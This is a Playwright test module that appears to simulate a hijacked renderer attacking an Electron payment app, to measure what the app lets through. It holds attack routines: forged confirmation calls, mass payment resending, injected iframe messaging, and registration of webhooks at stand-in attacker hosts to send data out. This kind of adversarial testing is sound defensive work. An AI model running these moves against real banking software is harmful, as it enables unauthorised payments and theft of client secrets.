import type { Page } from '@playwright/test'
import { randomOf } from '../../electron/sandbox/ledger/random.ts'
import { type Channel, contract } from '../../shared/ipc/contract.ts'
import { askBank } from '../demo/ask-bank.ts'
import { askPage, type Call } from './ask-page.ts'
import { type Asks, asksOf } from './asks.ts'
import { comeBack } from './come-back.ts'
import { dropThings } from './drop-things.ts'
import { pause, unwillingHand } from './hand.ts'
import { holdFrame } from './held-frame.ts'
import { logLines } from './log-lines.ts'
import { lookWhileLocked } from './look-while-locked.ts'
import { payOnce } from './own-payment.ts'
import { wayName } from './planted-script.ts'
import type { Deeds, Stage } from './stage.ts'
import { insideIn } from './told-inside.ts'
import { waysOut } from './ways-out.ts'

/** What came of an attack; whoever holds the page may have none of it. */
export interface Findings {
  /** Orders that the bank executed since it began, but for the one that a person said yes to. */
  readonly movements: number
  /** What the attacker's servers heard. */
  readonly heard: readonly string[]
  /** Addresses of the attacker's that the bank was told. */
  readonly registered: number
  /** Channels that were answered while locked and may not be, and what was readable. */
  readonly leaks: readonly string[]
  /** What the frame of papers came by that is not its own. */
  readonly reached: readonly string[]
  /** Answers that told of the inside. */
  readonly insides: readonly string[]
  /** Whether the page stands where it stood, main lives, and nothing in it was a bug. */
  readonly strayed: readonly string[]
  readonly deeds: Deeds
  /** How much was tried. */
  readonly calls: number
  readonly ways: number
  readonly frames: number
  readonly lies: number
  readonly drops: number
  readonly confirmations: number
  readonly presses: number
}

/** What the log calls a bug of main's. */
const bugs = ['call.bug', 'job.bug', 'engine.failed']

/** What does something over again, or lets it go on. */
const resending: readonly Channel[] = [
  'payments.askNow',
  'works.resume',
  'batches.oneByOne',
  'rebuild.again',
  'receipts.tryNow',
  'watch.reopen',
]

const asking = (Object.keys(contract) as Channel[]).filter((channel) => contract[channel].effect === 'asks')

/** Lets whoever holds the page do what he can for so long (ms), lock included; all of it follows from the seed, but not its order in time. */
export async function attack(stage: Stage, seed: number, lasts: number): Promise<Findings> {
  const { app, page, bank, listeners } = stage
  const random = randomOf(seed)
  const asks = asksOf(seed, stage.asked)
  for (const { answer } of stage.asked) asks.learn(JSON.stringify(answer) ?? '')
  const executed = async (): Promise<number> => Object.values(await bank.executions()).flat().length
  const before = await executed()
  const start = page.url()
  const given = await payOnce(stage, asks)
  const hand = unwillingHand(app, randomOf(seed + 1))
  const insides = new Set<string>()
  const reached = new Set<string>()
  let [calls, ways, frames, drops] = [0, 0, 0, 0]

  // A frame may go with its page, which is locked meanwhile: another one is let in then.
  const hold = async (all: boolean): Promise<void> => {
    for (let held = 0, tries = 0; held === 0 && tries < 20; tries += 1) {
      if (tries > 0) await comeBack(stage)
      const told = await holdFrame(page, listeners.hosts, all)
      held = told.frames
      frames += held
      for (const one of told.reached) reached.add(one)
    }
  }
  const call = async (list: readonly Call[]): Promise<readonly string[]> => {
    calls += list.length
    const told = await askPage(page, list)
    for (const one of told) {
      if (one.startsWith('{"ok":true')) asks.learn(one)
      else for (const found of insideIn(one)) insides.add(found)
    }
    return told
  }

  const moves: readonly [() => Promise<unknown>, ...(() => Promise<unknown>)[]] = [
    // First what comes before a person: no more than twenty of these pass at once.
    () => payAnyhow(call, asks, 1),
    () => sendAllAgain(call, asks, 3),
    () => call(addressesOf(listeners.hosts)),
    ...many(2, () => () => call(many(random.between(10, 60), asks.any))),
    () => sendAllAgain(call, asks, 20),
    ...many(4, () => () => payAnyhow(call, asks, random.between(1, 5))),
    () => call(many(100, () => asks.on(random.pick(asking as [Channel, ...Channel[]])))),
    () => call([{ channel: 'settings.change', ask: { passphraseAbove: random.pick([null, 0, 900_000_000]) } }]),
    () =>
      call(
        many(20, (at) => ({ channel: forged[at % forged.length], ask: { seal: random.text(32), passphrase: null } })),
      ),
    () => forge(page),
    () => hold(false),
    async () => {
      drops += await dropThings(stage)
    },
    ...many(6, () => async () => {
      ways += await takeWays(page, listeners.hosts, random.between(0, 1_000_000))
    }),
  ]
  const until = performance.now() + lasts
  // Each once, then any.
  for (let at = 0; at < moves.length || performance.now() < until; at += 1) {
    await (moves[at] ?? random.pick(moves))()
    await comeBack(stage)
  }
  // Once every way, whatever the seed took.
  ways += await takeWays(page, listeners.hosts, null)
  await hold(true)
  await pause(1_000)
  const lies = await toldLies(page)
  // A page that is kept busy beyond the lock is ended by main itself.
  const crashes = await logLines(stage, ['page.gone'])

  const secrets = [bank.offer.accounts.clientSecret, bank.offer.qrcodes.clientSecret, bank.offer.tls.pfxPassword]
  // Where the page went away there is nothing left to look at.
  const isHere = URL.parse(page.url())?.host === URL.parse(start)?.host
  const leaks = isHere ? await lookWhileLocked(stage, asks, secrets) : []
  await pause(500)
  await hand.stop()
  const strayed = page.url().replace(/#.*/, '') === start ? [] : [page.url()]
  return {
    movements: (await executed()) - before - given,
    heard: listeners.heard(),
    registered: await registeredWith(stage),
    leaks: leaks.slice(0, 20),
    reached: [...reached],
    insides: [...insides],
    strayed: [...strayed, ...crashes, ...(await logLines(stage, bugs))],
    deeds: await stage.deeds(),
    calls,
    ways,
    frames,
    lies,
    drops,
    confirmations: hand.seen(),
    presses: hand.pressed(),
  }
}

const forged = [
  'confirmation.read',
  'confirmation.confirm',
  'confirmation.systemCheck',
  'confirmation.back',
  'quita:confirmation-call',
]

function many<T>(count: number, make: (at: number) => T): T[] {
  return Array.from({ length: count }, (_, at) => make(at))
}

type Calling = (list: readonly Call[]) => Promise<readonly string[]>

/** Reviews a payment, asks for its sending many times over, and pulls at it while the window stands. */
async function payAnyhow(call: Calling, asks: Asks, times: number): Promise<void> {
  const [told = ''] = await call([asks.payment()])
  const id = /"reviewId":"([0-9a-f]+)"/.exec(told)?.[1]
  if (id === undefined) return
  const confirm = { channel: 'payments.confirm', ask: { reviewId: id, duplicateReason: 'Conferido por telefone' } }
  asks.remember(confirm)
  await call(many(times, () => confirm))
  await call([
    { channel: 'payments.sendAgain', ask: { id } },
    asks.payment(),
    { channel: 'payments.cancelReview', ask: { reviewId: id } },
    { channel: 'payments.close', ask: { id, as: 'abandoned', reason: 'não foi enviado' } },
    { channel: 'payments.abandon', ask: { id, reason: 'não foi enviado' } },
    { channel: 'watch.release', ask: {} },
    confirm,
  ])
}

/** Sends again what may be, of payments that are known, those that never left first; and has the rest gone on with. */
async function sendAllAgain(call: Calling, asks: Asks, most: number): Promise<void> {
  const [told = ''] = await call([
    { channel: 'payments.list', ask: { tab: 'all', text: '', limit: 200, before: null } },
  ])
  const rows = [...told.matchAll(/"id":"([0-9a-f]+)"[^{]*?"state":"([a-z-]+)"/g)]
  const ids = rows
    .filter(([, , state]) => state === 'not-sent')
    .concat(rows)
    .map(([, id]) => id)
  await call([...new Set(ids)].slice(0, most).map((id) => ({ channel: 'payments.sendAgain', ask: { id } })))
  await call(resending.map((channel) => asks.on(channel)))
}

/** How often the frame of papers lied on its line so far. */
async function toldLies(page: Page): Promise<number> {
  return page.evaluate(() => Number(Reflect.get(window, 'lies') ?? 0)).catch(() => 0)
}

/** Has the engine, or the bank, call the attacker: at his servers by number and by name. */
function addressesOf(hosts: readonly string[]): Call[] {
  return hosts.flatMap((host) => {
    const uri = `https://${host}/told`
    const door = { baseUrl: uri, clientId: 'x', clientSecret: 'x', pin: null }
    const form = { kind: 'TRANSFER', uri, email: null, method: 'POST', enabled: true, pauseOnFail: false, headers: [] }
    const connection = {
      companyName: 'Aurora Distribuidora',
      companyDocument: '41208765000107',
      environment: 'homologation',
      payer: { institution: null, issuer: null, number: null },
      accounts: { ...door, amounts: 'reais' },
      qrcodes: { ...door, amounts: 'reais' },
      vaultPassphrase: 'lilás trovão quieto martelo areia',
    }
    return [
      { channel: 'webhooks.test', ask: { uri } },
      { channel: 'webhooks.create', ask: form },
      { channel: 'webhooks.replace', ask: { id: '1', form } },
      { channel: 'keyWebhooks.configure', ask: { key: { kind: 'EMAIL', value: 'a@b.com' }, url: uri } },
      { channel: 'connections.test', ask: connection },
      { channel: 'connections.create', ask: connection },
    ]
  })
}

/** Forges what a person and main would do: keys, clicks, events of main, words to frames. */
async function forge(page: Page): Promise<void> {
  await page
    .evaluate(() => {
      for (const key of ['Enter', ' ', 'Escape', 'Tab']) {
        for (const kind of ['keydown', 'keyup'])
          (document.activeElement ?? document.body).dispatchEvent(new KeyboardEvent(kind, { key, bubbles: true }))
      }
      const buttons = [...document.querySelectorAll('button')]
      for (const button of buttons.slice(0, 20)) button.click()
      window.focus()
      const pushed = { event: 'session.changed', payload: { session: { stage: 'open' } } }
      window.dispatchEvent(new CustomEvent('quita:event', { detail: pushed }))
      window.postMessage(pushed, '*')
      const frame = document.createElement('iframe')
      frame.src = `${location.origin.replace('bundle', 'reader')}/index.html`
      document.body.append(frame)
      frame.addEventListener('load', () => {
        const { port1, port2 } = new MessageChannel()
        port1.onmessage = ({ data }) => (Reflect.get(window, 'pushed') as unknown[]).push(String(data))
        frame.contentWindow?.postMessage({ room: 'pdf' }, '*', [port2])
        for (const word of [null, 0, 'pdf', { id: 1, deed: 'open', ask: {} }, new Uint8Array(1000)])
          port1.postMessage(word)
        setTimeout(() => frame.remove(), 200)
      })
    })
    .catch(() => undefined) // the page may be emptied meanwhile
}

/** Takes ten of the ways out, from the `from`th on, or all of them (null), in the page; gives how many. */
async function takeWays(page: Page, hosts: readonly string[], from: number | null): Promise<number> {
  const all = Object.keys(waysOut).flatMap((name) => hosts.map((host) => wayName(name, host)))
  const names = from === null ? all : many(10, (at) => all[(from + at) % all.length] ?? '')
  await page
    .evaluate(
      async ({ list, hears }) => {
        await new Promise((resolve) => setTimeout(resolve, 20)) // until then the debugger that runs this may do more than the page
        for (const name of list) {
          try {
            void Promise.resolve((Reflect.get(window, name) as () => unknown)()).catch(() => undefined)
          } catch {
            // refused
          }
        }
        await new Promise((resolve) => setTimeout(resolve, hears))
      },
      { list: names, hears: from === null ? 3_000 : 150 },
    )
    .catch(() => undefined)
  return names.length
}

/** How many addresses of the attacker's the bank would call from now on. */
async function registeredWith({ bank, listeners }: Stage): Promise<number> {
  const told = JSON.stringify(await askBank(bank.offer, { group: 'accounts', method: 'GET', path: '/webhooks' }))
  return listeners.hosts.filter((host) => told.includes(host)).length
}
